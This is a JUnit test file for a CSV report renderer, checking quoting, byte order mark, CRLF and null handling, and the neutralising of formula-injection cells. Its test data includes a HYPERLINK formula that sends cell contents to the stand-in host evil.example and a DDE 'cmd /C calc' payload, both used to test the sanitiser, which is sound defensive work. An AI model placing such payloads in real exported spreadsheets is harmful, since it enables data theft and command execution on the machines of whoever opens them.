package io.mailroute.reports.render;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.mailroute.reports.Table;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class CsvDocumentTest {

    private static final Documents DOCUMENTS = new Documents(Clock.fixed(Instant.parse("2026-03-02T08:00:00Z"), ZoneOffset.UTC));

    @TempDir
    Path dir;

    @Test
    void hostileCellsComeBackFromAnRfc4180ReaderAsWrittenOrNeutralised() throws IOException {
        List<String> hostile = List.of(
                "plain", "a,b", "say \"hi\"", "two\nlines", "cr\ronly", "crlf\r\nend", "\"", ",", "",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                "\tTAB", "\rCR first", "Zürich €", "'already quoted");
        List<String> neutralised = new ArrayList<>(hostile);
        neutralised.set(9, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        neutralised.set(10, "'+1+cmd|' /C calc'!A0");
        neutralised.set(11, "'-2+3");
        neutralised.set(12, "'@SUM(A1:A9)");
        neutralised.set(13, "'\tTAB");
        neutralised.set(14, "'\rCR first");
        List<String> columns = new ArrayList<>();
        for (int i = 0; i < hostile.size(); i++) {
            columns.add("c" + i);
        }
        Path file = dir.resolve("hostile.csv");

        RenderedDocument csv = DOCUMENTS.render(new Table("Hostile", columns, List.of(hostile, hostile)), DocumentFormat.CSV, file);

        List<List<String>> records = readRfc4180(Files.readString(file, StandardCharsets.UTF_8));
        assertEquals(List.of(columns, neutralised, neutralised), records);
        assertEquals(2, csv.rows());
    }

    @Test
    void theFileIsUtf8WithAByteOrderMarkAndCrlfBetweenRecords() throws IOException {
        Path file = dir.resolve("plain.csv");
        DOCUMENTS.render(new Table("Plain", List.of("name", "city"), List.of(List.of("Anna", "Zürich"))), DocumentFormat.CSV, file);

        byte[] expected = ("\uFEFFname,city\r\nAnna,Zürich\r\n").getBytes(StandardCharsets.UTF_8);
        assertArrayEquals(expected, Files.readAllBytes(file)); // starts EF BB BF
    }

    @Test
    void nullCellsAreEmptyFieldsAndAnEmptyTableIsItsHeader() throws IOException {
        Path withNull = dir.resolve("null.csv");
        DOCUMENTS.render(new Table("Nulls", List.of("a", "b"), List.of(Arrays.asList(null, "x"))), DocumentFormat.CSV, withNull);
        assertEquals("\uFEFFa,b\r\n,x\r\n", Files.readString(withNull));

        Path empty = dir.resolve("empty.csv");
        RenderedDocument rendered = DOCUMENTS.render(new Table("Empty", List.of("a", "b"), List.of()), DocumentFormat.CSV, empty);
        assertEquals("\uFEFFa,b\r\n", Files.readString(empty));
        assertEquals(0, rendered.rows());
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @CsvSource(delimiter = '|', quoteCharacter = '~', value = {
            "plain          | plain",
            "a,b            | ~\"a,b\"~",
            "~say \"hi\"~   | ~\"say \"\"hi\"\"\"~",
            "=1+2           | '=1+2",
            "~=\"a,b\"~     | ~\"'=\"\"a,b\"\"\"~",
            "-5             | '-5",
            "a=b            | a=b",
            "x-1            | x-1",
    })
    void aFieldIsNeutralisedThenQuotedWhenItMustBe(String cell, String field) {
        assertEquals(field, CsvDocument.field(cell));
    }

    @Test
    void aLeadingNulIsNeutralisedToo() {
        assertTrue(CsvDocument.field("\0=1").startsWith("'"));
    }

    /** A strict RFC 4180 reader (after the byte order mark), written from the RFC, not from the writer. */
    static List<List<String>> readRfc4180(String text) {
        if (!text.startsWith("\uFEFF")) {
            throw new AssertionError("no byte order mark");
        }
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        int i = 1;
        while (i < text.length()) {
            if (text.charAt(i) == '"') { // a quoted field: up to the lone closing quote
                i++;
                while (true) {
                    char c = text.charAt(i++);
                    if (c == '"' && i < text.length() && text.charAt(i) == '"') {
                        field.append('"');
                        i++;
                    } else if (c == '"') {
                        break;
                    } else {
                        field.append(c);
                    }
                }
            } else {
                while (i < text.length() && text.charAt(i) != ',' && text.charAt(i) != '\r') {
                    char c = text.charAt(i++);
                    if (c == '"' || c == '\n') {
                        throw new AssertionError("unquoted field holds " + (c == '"' ? "a quote" : "LF") + " at " + i);
                    }
                    field.append(c);
                }
            }
            record.add(field.toString());
            field.setLength(0);
            if (text.startsWith("\r\n", i)) {
                records.add(record);
                record = new ArrayList<>();
                i += 2;
            } else if (text.charAt(i) == ',') {
                i++;
            } else {
                throw new AssertionError("expected , or CRLF at " + i + " but found " + (int) text.charAt(i));
            }
        }
        if (!record.isEmpty()) {
            throw new AssertionError("the last record does not end with CRLF");
        }
        return records;
    }
}
